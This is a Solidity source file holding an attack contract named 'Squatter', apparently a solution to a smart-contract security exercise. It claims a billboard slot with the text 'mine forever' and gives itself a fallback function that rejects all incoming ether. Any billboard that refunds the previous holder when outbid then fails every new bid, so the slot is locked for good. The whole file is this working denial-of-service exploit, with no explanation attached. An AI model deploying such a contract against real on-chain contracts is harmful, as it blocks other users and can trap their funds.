pragma solidity 0.5.17;

interface IBillboard {
    function take(uint256 slot, string calldata ad) external payable;
}

contract Squatter {
    function squat(IBillboard board, uint256 slot) public payable {
        board.take.value(msg.value)(slot, "mine forever");
    }

    function() external payable {
        revert();
    }
}
